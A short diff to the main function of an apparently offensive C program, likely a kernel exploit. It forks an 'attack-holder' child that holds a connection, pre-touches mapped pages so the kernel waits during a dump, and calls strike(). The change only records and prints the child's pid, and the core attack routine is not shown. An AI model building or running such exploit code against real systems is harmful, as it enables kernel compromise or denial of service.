@@ -123,6 +123,7 @@ main(int argc, char **argv)
 {
 	char options[128];
 	pthread_t thread;
+	pid_t holder;
 	struct stat st;
 	int fd;
 	void *map;
@@ -158,7 +159,8 @@ main(int argc, char **argv)
 	/* The kernel itself waits for what is not in memory as it dumps. */
 	for (size_t i = 0; i < content_len; i += 4096)
 		seen += ((volatile char *)map)[i];
-	if (fork() == 0) {
+	holder = fork();
+	if (holder == 0) {
 		/* Holds the connection, serves nobody. */
 		prctl(PR_SET_NAME, "attack-holder");
 		if (chdir("/") == -1)
@@ -170,6 +172,8 @@ main(int argc, char **argv)
 		for (;;)
 			pause();
 	}
+	printf("%ld\n", (long)holder);
+	fflush(stdout);
 	strike();
 	return 0;
 }
